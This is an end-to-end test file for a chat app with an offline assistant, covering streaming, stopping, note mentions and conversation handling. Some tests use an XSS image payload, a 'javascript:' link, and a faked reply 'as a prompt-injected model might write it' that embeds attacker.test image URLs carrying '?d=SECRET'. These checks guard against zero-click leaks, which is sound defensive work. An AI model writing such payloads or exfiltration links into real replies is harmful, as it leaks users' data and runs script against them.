import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { loginLink, userButton } from './support/accounts';
import { PHONE, useE2eApp } from './support/e2e-app';
import { composer } from './support/chat-composer';
import { saveNoteViaApi } from './support/notes';

// The built-in offline assistant answers (the default): no network, 25 ms a word.
const app = useE2eApp();

const GREETING = "Hello! I'm your AI assistant. How can I help you today?";
/** Long enough that the offline reply (which repeats the question) takes a few seconds to write. */
const LONG_QUESTION =
  'Could you please explain in plenty of detail how compound interest works over many years, why starting early ' +
  'matters so much, and what a beginner should keep in mind when saving a little money every single month?';

const chat = {
  editor: composer.editor,
  send: (page: Page) => page.getByRole('button', { name: 'Send message' }),
  stop: (page: Page) => page.getByRole('button', { name: 'Stop' }),
  messages: (page: Page) => page.getByRole('list', { name: 'Messages' }),
  replies: (page: Page) => page.locator('ol[aria-label="Messages"] > li [data-role="assistant"]'),
  userBubbles: (page: Page) => page.locator('ol[aria-label="Messages"] > li [data-role="user"]'),
  conversations: (page: Page) => page.getByRole('navigation', { name: 'Conversations' }),
};

async function openChat(options: { viewport?: typeof PHONE; notes?: { name: string; content: string }[] } = {}) {
  const { page, sessionToken } = await app.newPage({ signedIn: true, viewport: options.viewport });
  const notes = [];
  for (const note of options.notes ?? []) notes.push(await saveNoteViaApi(app.url, sessionToken!, note));
  await page.goto('/chats');
  await page.getByText(GREETING).waitFor();
  return { page, sessionToken: sessionToken!, notes };
}

async function type(page: Page, text: string) {
  await chat.editor(page).click();
  await page.keyboard.type(text);
}

/** The text of the last assistant reply (the live one while it streams). */
const lastReplyText = (page: Page) => chat.replies(page).last().innerText();

/** Waits until `count` replies (besides the greeting) are finished and none is streaming. */
async function waitForReplies(page: Page, count: number) {
  await page.waitForFunction(
    (expected) =>
      !document.querySelector('[aria-busy="true"][data-role="assistant"]') &&
      document.querySelectorAll('ol[aria-label="Messages"] > li [data-role="assistant"]').length >= expected + 1,
    count,
    { timeout: 20_000 },
  );
}

describe('the chat screen', () => {
  it('greets, keeps Send off while empty, sends on Enter and streams the reply in several renders', async () => {
    const { page } = await openChat();
    expect(await chat.replies(page).count()).toBe(1);
    expect(await chat.send(page).isDisabled()).toBe(true);
    await type(page, '   ');
    expect(await chat.send(page).isDisabled()).toBe(true);
    await page.keyboard.press('Control+A');
    await page.keyboard.press('Backspace');

    await type(page, 'First line');
    await page.keyboard.press('Shift+Enter');
    await page.keyboard.type('second line');
    expect(await chat.userBubbles(page).count()).toBe(0);
    await page.keyboard.press('Enter');

    const bubble = chat.userBubbles(page).first();
    await bubble.waitFor();
    expect(await bubble.innerText()).toMatch(/First line\s+second line/);
    // Cleared and blurred after the send.
    expect((await chat.editor(page).innerText()).trim()).toBe('');
    expect(await page.evaluate(() => document.activeElement?.getAttribute('aria-label'))).not.toBe('Message');

    // Several partial renders of the live reply before it completes.
    const lengths = new Set<number>();
    const deadline = Date.now() + 15_000;
    while (Date.now() < deadline) {
      const live = await page.evaluate(
        () => document.querySelector('[aria-busy="true"][data-role="assistant"]')?.textContent ?? null,
      );
      if (live === null && lengths.size > 0) break;
      if (live !== null) lengths.add(live.length);
      await page.waitForTimeout(60);
    }
    expect(lengths.size).toBeGreaterThanOrEqual(3);
    await waitForReplies(page, 1);
    expect(await lastReplyText(page)).toContain("I'm Turtle's offline assistant");
    // Focus comes back to the composer after the reply (not a touch device).
    await page.waitForFunction(() => document.activeElement?.getAttribute('aria-label') === 'Message');
    await page.getByText('Offline assistant', { exact: true }).waitFor();
    await page.getByTestId('usage-meter').getByText('49 of 50 replies left today').waitFor();
    expect(app.pageErrors).toEqual([]);
  });

  it('keeps the messages on screen while the first message makes its conversation (no loading flash)', async () => {
    // A new conversation is put in the list and in the address as its first reply starts; the page must not take the
    // list for "a latest conversation to resume" in between, which blanked the messages for a moment (seen on a busy
    // machine as a reply that vanished mid-stream).
    const { page } = await openChat();
    await page.evaluate(() => {
      const seen = { removed: false, spinner: false };
      (window as unknown as { seen: typeof seen }).seen = seen;
      new MutationObserver(() => {
        if (!document.querySelector('ol[aria-label="Messages"]')) seen.removed = true;
        const statuses = document.querySelectorAll('section[aria-label="Chat"] [role="status"]');
        if (Array.from(statuses).some((status) => status.textContent === 'Loading…')) seen.spinner = true;
      }).observe(document.body, { childList: true, subtree: true });
    });
    await type(page, 'Hello there');
    await page.keyboard.press('Enter');
    await waitForReplies(page, 1);
    await page.waitForURL(/[?&]c=/);
    expect(await page.evaluate(() => (window as unknown as { seen: object }).seen)).toEqual({
      removed: false,
      spinner: false,
    });
    expect(app.pageErrors).toEqual([]);
  });

  it('shows a reply as its text before the markdown renderer has arrived, then draws it as markdown', async () => {
    // Decision 023: the renderer is a chunk of its own, fetched once the chat is idle (not by its first render) and
    // by the first message with markdown in it, whichever comes first.
    const { page } = await app.newPage({ signedIn: true });
    const asked: string[] = [];
    let release!: () => void;
    const held = new Promise<void>((resolve) => (release = resolve));
    await page.route(/\/assets\/markdown-renderer-[\w-]+\.js$/, async (route) => {
      asked.push(new URL(route.request().url()).pathname);
      await held;
      await route.continue();
    });
    await page.goto('/chats');
    await page.getByText(GREETING).waitFor();
    await expect.poll(() => asked.length).toBe(1);

    await type(page, 'Hello there');
    await page.keyboard.press('Enter');
    await waitForReplies(page, 1);
    const reply = chat.replies(page).last();
    const text = reply.locator('.chat-markdown').first();
    expect(await text.getAttribute('data-markdown')).toBe('waiting');
    // Readable meanwhile: the text with its emphasis marks left out, not "_I'm Turtle's…_".
    expect(await reply.innerText()).toContain("I'm Turtle's offline assistant");
    expect(await reply.innerText()).not.toContain("_I'm");
    expect(asked).toHaveLength(1);

    release();
    await reply.locator('em').first().waitFor();
    expect(await text.getAttribute('data-markdown')).toBe('rendered');
    expect(await reply.locator('em').first().innerText()).toContain("I'm Turtle's offline assistant");
    expect(app.pageErrors).toEqual([]);
  });

  it('Stop ends the reply and keeps what arrived, marked stopped, also after a reload', async () => {
    const { page } = await openChat();
    await type(page, LONG_QUESTION);
    await page.keyboard.press('Enter');
    await page.waitForFunction(
      () => (document.querySelector('[aria-busy="true"][data-role="assistant"]')?.textContent?.length ?? 0) > 20,
    );
    await chat.stop(page).click();
    await page.getByText('Stopped', { exact: true }).waitFor();
    const partial = await lastReplyText(page);
    expect(partial).not.toContain('To get real answers');
    await page.reload();
    await page.getByText('Stopped', { exact: true }).waitFor();
    expect(await lastReplyText(page)).not.toContain('To get real answers');
  });

  it('loses nothing when the page reloads mid-reply: the whole reply is there afterwards', async () => {
    const { page } = await openChat();
    await type(page, LONG_QUESTION);
    await page.keyboard.press('Enter');
    await page.waitForFunction(
      () => (document.querySelector('[aria-busy="true"][data-role="assistant"]')?.textContent?.length ?? 0) > 10,
    );
    await page.waitForURL(/\/chats\?c=/);
    await page.reload();
    await page.getByText(GREETING).waitFor();
    await page.waitForFunction(() => document.body.innerText.includes('To get real answers'), null, {
      timeout: 20_000,
    });
    expect(await page.getByText('Stopped', { exact: true }).count()).toBe(0);
  });

  it('mentions a note with @: the reply quotes it and names it under Sources', async () => {
    const { page, notes } = await openChat({
      notes: [
        { name: 'Groceries', content: 'Buy oat milk and apples. The bakery closes at six.' },
        { name: 'Budget plan', content: 'Rent is 900 dollars a month. Savings goal is 200 dollars a month.' },
      ],
    });
    await type(page, 'What is my rent in @bud');
    const option = page.getByRole('option', { name: /Budget plan/ });
    await option.waitFor();
    await page.keyboard.press('Enter');
    await option.waitFor({ state: 'detached' });
    // The token is in the editor, and Enter picked it without sending.
    expect(await chat.userBubbles(page).count()).toBe(0);
    await page.locator('[data-lexical-beautiful-mention="true"], [data-beautiful-mention]').first().waitFor();
    await page.keyboard.type('?');
    await page.keyboard.press('Enter');
    await waitForReplies(page, 1);
    const reply = await lastReplyText(page);
    expect(reply).toContain('Rent is 900 dollars a month.');
    const sources = chat.replies(page).last().getByRole('link', { name: 'Budget plan', exact: true });
    await sources.waitFor();
    expect(await sources.getAttribute('href')).toBe(`/note/${notes[1]!.id}`);
  });

  it('keeps conversations across reloads, and renames and deletes them', async () => {
    const { page } = await openChat();
    await type(page, 'Plan my week');
    await page.keyboard.press('Enter');
    await waitForReplies(page, 1);
    await page.waitForURL(/\/chats\?c=/);
    const list = chat.conversations(page);
    await list.getByRole('link', { name: 'Plan my week' }).waitFor();

    await page.goto('/chats');
    await page.waitForURL(/\/chats\?c=/);
    await chat.userBubbles(page).getByText('Plan my week').waitFor();

    await list.getByRole('button', { name: 'Rename "Plan my week"' }).click();
    const name = list.getByRole('textbox', { name: 'Conversation name' });
    await name.fill('Weekly plan');
    await name.press('Enter');
    await list.getByRole('link', { name: 'Weekly plan' }).waitFor();
    await page.reload();
    await chat.conversations(page).getByRole('link', { name: 'Weekly plan' }).waitFor();

    await chat.conversations(page).getByRole('link', { name: 'New chat' }).click();
    await page.waitForURL(/\/chats\?new=1/);
    // The address changes as the navigation starts; the old conversation goes with the next render.
    await expect.poll(() => chat.userBubbles(page).count()).toBe(0);

    await chat.conversations(page).getByRole('button', { name: 'Delete "Weekly plan"' }).click();
    const dialog = page.getByRole('alertdialog');
    await dialog.getByRole('button', { name: 'Delete' }).click();
    await dialog.waitFor({ state: 'detached' });
    await chat.conversations(page).getByText('Your conversations will appear here.').waitFor();
    await page.reload();
    await chat.conversations(page).getByText('Your conversations will appear here.').waitFor();
  });

  it('logs out from a conversation to the home page, leaving nothing of it for the next person', async () => {
    const { page } = await openChat();
    await type(page, 'A private question');
    await page.keyboard.press('Enter');
    await waitForReplies(page, 1);
    await page.waitForURL(/\/chats\?c=/);
    await userButton(page, 'Grace').click();
    await page.getByRole('menuitem', { name: 'Logout' }).click();
    await page.waitForURL(`${app.url}/`);
    await loginLink(page).click();
    await page.waitForURL(/\/login/);
    expect(new URL(page.url()).search).toBe('');
    expect(app.pageErrors).toEqual([]);
  });

  it('never runs HTML typed into a message, and a javascript: link in a reply is not clickable', async () => {
    const { page } = await openChat({
      notes: [{ name: 'Links', content: 'Open the [bank login](javascript:window.__xss=2) page today.' }],
    });
    await type(page, '<img src=x onerror="window.__xss=1"> hello');
    await page.keyboard.press('Enter');
    await waitForReplies(page, 1);
    await chat.userBubbles(page).getByText('<img src=x onerror="window.__xss=1"> hello').waitFor();

    await type(page, 'bank login @Lin');
    const option = page.getByRole('option', { name: /Links/ });
    await option.waitFor();
    await page.keyboard.press('Enter');
    // The menu closes once the note is picked; the next Enter sends.
    await option.waitFor({ state: 'detached' });
    await page.keyboard.press('Enter');
    await chat.userBubbles(page).nth(1).waitFor();
    await waitForReplies(page, 2);
    const reply = chat.replies(page).last();
    await reply.getByText('bank login').waitFor();
    const hrefs = await reply.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href')));
    expect(hrefs.some((href) => href?.toLowerCase().includes('javascript'))).toBe(false);
    await reply.getByText('bank login').click();
    expect(await page.evaluate(() => (window as { __xss?: number }).__xss)).toBeUndefined();
    expect(app.pageErrors).toEqual([]);
  });

  it('makes no request to an outside address named by a reply or a message (no zero-click leaks)', async () => {
    const { page } = await openChat();
    const outside: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes('attacker.test')) outside.push(request.url());
    });
    // A reply as a prompt-injected model might write it, served in place of the real stream.
    const reply =
      'Here you go ![a](https://attacker.test/p.png?d=SECRET) and <img src="https://attacker.test/raw.png"> ' +
      '[click](https://attacker.test/link)';
    const frame = (chunk: object) => `data: ${JSON.stringify(chunk)}\n\n`;
    const now = Date.now();
    await page.route('**/api/chat/send', (route) =>
      route.fulfill({
        status: 200,
        headers: { 'content-type': 'text/event-stream; charset=utf-8' },
        body:
          frame({
            token: '',
            finish_reason: null,
            meta: {
              conversation: { id: 'c-fake', title: 'Leak test', createdAt: now, updatedAt: now },
              userMessage: {
                id: 'u-fake',
                role: 'user',
                content: 'hi',
                htmlContent: '<p>hi <img src="https://attacker.test/from-html.png"></p>',
                timestamp: now,
                status: 'complete',
              },
              assistantMessageId: 'a-fake',
              sources: [],
            },
          }) +
          frame({ token: reply, finish_reason: null }) +
          frame({ token: '', finish_reason: 'stop' }) +
          'data: [DONE]\n\n',
      }),
    );
    await type(page, 'hi');
    await page.keyboard.press('Enter');
    await chat.replies(page).last().getByText('(image blocked)').first().waitFor();
    await page.waitForTimeout(300);
    expect(outside).toEqual([]);
    expect(await chat.replies(page).last().locator('img').count()).toBe(0);
  });

  it('shows the conversations in a drawer on a phone', async () => {
    const { page } = await openChat({ viewport: PHONE });
    expect(await chat.conversations(page).isVisible()).toBe(false);
    await type(page, 'Hello from my phone');
    await chat.send(page).click();
    await waitForReplies(page, 1);
    await page.getByRole('button', { name: 'Show conversations' }).click();
    const drawer = page.getByRole('dialog', { name: 'Conversations' });
    await drawer.getByRole('link', { name: 'Hello from my phone' }).waitFor();
    await page.keyboard.press('Escape');
    await drawer.waitFor({ state: 'detached' });
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    expect(overflow).toBeLessThanOrEqual(0);
  });
});

describe('the chat screen as it starts (decision 026)', () => {
  it('asks for the conversations, the meter and the notes beside the status call, once each', async () => {
    const { page } = await app.newPage({ signedIn: true });
    // The status call answers late; the chat's first reads go out meanwhile, with the screen's chunk, and the screen
    // mounting after it uses them (fresh for JUST_READ_MS, 3 s) instead of asking again.
    let statusAnswered = false;
    await page.route('**/api/user/status', async (route) => {
      await new Promise((resolve) => setTimeout(resolve, 1_500));
      statusAnswered = true;
      await route.continue();
    });
    const reads: { path: string; beforeStatus: boolean }[] = [];
    page.on('request', (request) => {
      const { pathname } = new URL(request.url());
      if (['/api/chat/conversations', '/api/chat/usage', '/api/note/list'].includes(pathname)) {
        reads.push({ path: pathname, beforeStatus: !statusAnswered });
      }
    });
    await page.goto('/chats');
    await composer.editor(page).waitFor();
    await page.getByText('Your conversations will appear here.').first().waitFor();
    expect(reads.map((read) => read.path).sort()).toEqual([
      '/api/chat/conversations',
      '/api/chat/usage',
      '/api/note/list',
    ]);
    expect(reads.every((read) => read.beforeStatus)).toBe(true);
    expect(app.pageErrors).toEqual([]);
  });

  it('asks for its first reads before the screen’s chunk has arrived, once each (decision 030)', async () => {
    const { page } = await app.newPage({ signedIn: true });
    // The screen's chunk arrives late: its reads go out meanwhile, and the screen takes their answers.
    let chunkArrived = false;
    await page.route(/\/assets\/chats-screen-[\w-]+\.js$/, async (route) => {
      await new Promise((resolve) => setTimeout(resolve, 1_500));
      chunkArrived = true;
      await route.continue();
    });
    const reads: { path: string; beforeChunk: boolean }[] = [];
    page.on('request', (request) => {
      const { pathname } = new URL(request.url());
      if (['/api/chat/conversations', '/api/chat/usage', '/api/note/list'].includes(pathname)) {
        reads.push({ path: pathname, beforeChunk: !chunkArrived });
      }
    });
    await page.goto('/chats');
    await page.getByText('Your conversations will appear here.').first().waitFor();
    await composer.editor(page).waitFor();
    expect(reads.map((read) => read.path).sort()).toEqual([
      '/api/chat/conversations',
      '/api/chat/usage',
      '/api/note/list',
    ]);
    expect(reads.every((read) => read.beforeChunk)).toBe(true);
    expect(app.pageErrors).toEqual([]);
  });

  it('downloads the screen’s chunk beside the app’s, not after it (decision 030)', async () => {
    const { page } = await app.newPage({ signedIn: true });
    // The app chunk arrives late: the chat's own chunk is asked for meanwhile, as the address names it.
    let appArrived = false;
    await page.route(/\/assets\/start-app-[\w-]+\.js$/, async (route) => {
      await new Promise((resolve) => setTimeout(resolve, 1_500));
      appArrived = true;
      await route.continue();
    });
    const screenAsked = new Promise<boolean>((resolve) =>
      page.on('request', (request) => {
        if (/\/assets\/chats-screen-[\w-]+\.js$/.test(request.url())) resolve(!appArrived);
      }),
    );
    await page.goto('/chats');
    expect(await screenAsked).toBe(true);
    await page.getByText('Your conversations will appear here.').first().waitFor();
    expect(app.pageErrors).toEqual([]);
  });

  it('checks a reply’s events with schemas loaded after the screen, built without the eval the policy forbids', async () => {
    const { page } = await app.newPage({ signedIn: true });
    await page.addInitScript(() => {
      const seen: string[] = [];
      const probe = window as unknown as { policyViolations: string[]; drawnAt?: number };
      probe.policyViolations = seen;
      document.addEventListener('securitypolicyviolation', (event) => seen.push(event.violatedDirective));
      // When the screen first drew its conversations' place, by the page's own clock: the test's polling may notice
      // it later than an idle preload starts (use-when-idle.ts), so the two are compared here, not in the test.
      new MutationObserver((_, observer) => {
        if (!document.body?.textContent?.includes('Your conversations will appear here.')) return;
        probe.drawnAt = performance.now();
        observer.disconnect();
      }).observe(document, { childList: true, subtree: true, characterData: true });
    });
    await page.goto('/chats');
    await page.getByText('Your conversations will appear here.').first().waitFor();
    await type(page, 'What is compound interest?');
    await page.keyboard.press('Enter');
    await waitForReplies(page, 1);
    expect((await lastReplyText(page)).length).toBeGreaterThan(20);
    // Zod's chunk (decision 030): not on the chat's first screen, and its schemas built with `jitless`.
    expect(await page.evaluate(() => (window as unknown as { policyViolations: string[] }).policyViolations)).toEqual(
      [],
    );
    const { drawnAt, schemasAt } = await page.evaluate(() => ({
      drawnAt: (window as unknown as { drawnAt?: number }).drawnAt,
      schemasAt: performance
        .getEntriesByType('resource')
        .filter((entry) => /\/assets\/zod-[\w-]+\.js$/.test(entry.name))
        .map((entry) => entry.startTime),
    }));
    expect(drawnAt).toBeGreaterThan(0);
    expect(schemasAt).toHaveLength(1);
    expect(schemasAt[0]).toBeGreaterThan(drawnAt!);
    expect(app.pageErrors).toEqual([]);
  });

  it('loads the editor after the screen has drawn its conversation, and at once when the stand-in is touched', async () => {
    const { page } = await app.newPage({ signedIn: true });
    // The conversations answer late: until the screen can draw, its 75 KB editor must not take the line.
    let listAnswered = false;
    await page.route('**/api/chat/conversations', async (route) => {
      await new Promise((resolve) => setTimeout(resolve, 1_000));
      listAnswered = true;
      await route.continue();
    });
    const editorAsked = new Promise<boolean>((resolve) =>
      page.on('request', (request) => {
        if (/\/assets\/composer-[\w-]+\.js$/.test(request.url())) resolve(listAnswered);
      }),
    );
    await page.goto('/chats');
    expect(await editorAsked).toBe(true);
    await page.getByText(GREETING).waitFor();
    await composer.editor(page).waitFor();

    // A second visit whose conversations never answer: touching the stand-in brings the editor anyway.
    const fresh = await app.newPage({ signedIn: true });
    await fresh.page.route('**/api/chat/conversations', () => {});
    await fresh.page.goto('/chats');
    const standIn = fresh.page.locator('textarea[data-composer-loading]');
    await standIn.click();
    await composer.editor(fresh.page).waitFor();
    expect(app.pageErrors).toEqual([]);
  });

  it('on a phone, never loads the wide header’s user menu', async () => {
    const { page } = await app.newPage({ signedIn: true, viewport: PHONE });
    const chunks: string[] = [];
    page.on('request', (request) => chunks.push(new URL(request.url()).pathname));
    await page.goto('/chats');
    await page.getByText(GREETING).waitFor();
    await composer.editor(page).waitFor();
    expect(chunks.filter((path) => path.includes('/user-menu-'))).toEqual([]);
    await page.getByRole('button', { name: 'Menu' }).click();
    await page.getByRole('navigation', { name: 'Menu' }).getByRole('link', { name: 'Account' }).waitFor();
  });
});
